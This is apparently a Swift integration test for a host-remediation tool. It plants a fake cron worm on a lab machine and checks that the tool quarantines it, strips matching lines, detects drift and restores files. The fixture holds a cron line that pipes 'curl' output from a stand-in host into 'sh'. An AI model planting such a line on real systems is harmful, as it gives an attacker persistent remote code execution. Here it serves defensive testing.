import Foundation
import ScourEngine
import ScourLab
import TestSupport
import Testing

/// Steps see each other, through the real `scour` on a lab host: a cron file quarantined and
/// then lines removed over its folder — the plan shows the later step without the quarantined
/// file, apply acts on exactly that, `restore` puts every byte back; and a file changed between
/// plan and apply drifts only the step that reads it.
@Suite(.needs(.lab))
struct StepsSeeEachOtherOnLabTests {
    static let worm = "/etc/cron.d/apache2-update"
    static let other = "/etc/cron.d/logcheck"
    static let wormCron = "* * * * * root curl -s http://pool.invalid/x | sh\n"
    static let otherCron = "MAILTO=root\n*/5 * * * * root /opt/x --pool pool.invalid\n@reboot root /usr/sbin/logcheck\n"
    static let describe = "sha256sum \(worm) \(other) 2>&1; stat -c '%a %U %G %Y' \(worm) \(other) 2>&1"

    static let playbook = """
        playbook "chained" {
          platform = linux
          remove_files "worm_cron" {
            paths = ['\(worm)']
          }
          remove_lines "pool_lines" {
            paths       = ['/etc/cron.d/*']
            max_matches = 50
            pattern     = 'pool\\.invalid'
          }
        }
        """

    private func scour(_ lab: LabFixture, _ arguments: [String]) async throws -> ScourCLI.Result {
        try await ScourCLI.run(arguments, environment: ["SCOUR_RUNS_DIR": lab.directory + "/runs"])
    }

    private func plant(_ lab: LabFixture, _ host: LabState.Host) async throws {
        let planted = try await lab.ssh(host, """
            set -e
            printf '%s' '\(Data(Self.wormCron.utf8).base64EncodedString())' | base64 -d > \(Self.worm)
            printf '%s' '\(Data(Self.otherCron.utf8).base64EncodedString())' | base64 -d > \(Self.other)
            chmod 644 \(Self.worm) \(Self.other); touch -m -d @1000000000 \(Self.worm) \(Self.other)
            """)
        #expect(planted.status == 0, "\(planted.stderr)")
    }

    @Test func a_quarantined_file_is_not_edited_by_the_step_over_its_folder_and_restore_puts_all_back() async throws {
        let lab = try await LabFixture(hosts: 1, scenario: "clean")
        let host = lab.state.hosts[0]
        try await plant(lab, host)
        let before = try await lab.ssh(host, Self.describe).stdout
        let playbook = "\(lab.directory)/chained.scour"
        try Self.playbook.write(toFile: playbook, atomically: true, encoding: .utf8)
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]

        let plan = try await scour(lab, ["plan", playbook] + common + ["--format", "json"])
        #expect(plan.status == 0, "\(plan.stderr)")
        let steps = try #require(try PlanDocument.decode(Data(plan.stdout.utf8)).hosts.first?.steps)
        #expect(steps.map(\.action) == [.change, .change])
        #expect(steps[1].changes.map(\.path) == [Self.other], "the quarantined file is not edited: \(steps[1].changes)")

        let applied = try await scour(lab, ["apply", playbook] + common + ["--no-progress"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        #expect(try await lab.ssh(host, "test -e \(Self.worm) || echo gone").stdout == "gone\n")
        #expect(try await lab.ssh(host, "cat \(Self.other)").stdout == "MAILTO=root\n@reboot root /usr/sbin/logcheck\n")

        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let dryRun = try await scour(lab, ["restore", run, "--dry-run"])
        #expect(dryRun.status == 0, "\(dryRun.stdout)\(dryRun.stderr)")
        #expect(dryRun.stdout.contains("would restore 1 file and 1 config; 0 problems") && !dryRun.stdout.contains("tampering"), "\(dryRun.stdout)")
        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(try await lab.ssh(host, Self.describe).stdout == before, "every byte back, with mode, owner and mtime")
    }

    @Test func a_file_changed_between_plan_and_apply_drifts_only_the_step_that_reads_it() async throws {
        let lab = try await LabFixture(hosts: 1, scenario: "clean")
        let host = lab.state.hosts[0]
        try await plant(lab, host)
        let playbook = "\(lab.directory)/chained.scour"
        try Self.playbook.write(toFile: playbook, atomically: true, encoding: .utf8)
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]
        let saved = "\(lab.directory)/plan.json"
        let plan = try await scour(lab, ["plan", playbook] + common + ["-o", saved])
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        // The other cron file gains a line after the plan; the worm's file is as planned.
        _ = try await lab.ssh(host, "echo '1 1 * * * root /opt/y pool.invalid' >> \(Self.other)")

        let applied = try await scour(lab, ["apply", saved] + common + ["--no-progress", "--format", "json"])
        let hosts = try #require(try JSONSerialization.jsonObject(with: Data(applied.stdout.utf8)) as? [String: Any])["hosts"] as? [[String: Any]]
        let outcome = try #require(hosts?.first)
        let steps = try #require(outcome["steps"] as? [[String: Any]])
        #expect(outcome["status"] as? String == "drifted", "\(applied.stdout)")
        #expect(steps.map { $0["status"] as? String } == ["changed", "drifted"], "\(steps)")
        let detail = steps[1]["detail"] as? String ?? ""
        #expect(detail.contains("files matching") && detail.contains(Self.other), "the drift names the file: \(detail)")
        #expect(try await lab.ssh(host, "test -e \(Self.worm) || echo gone").stdout == "gone\n", "the other step acted")
        #expect(try await lab.ssh(host, "grep -c pool.invalid \(Self.other)").stdout == "2\n", "the drifted step did not act")
    }
}
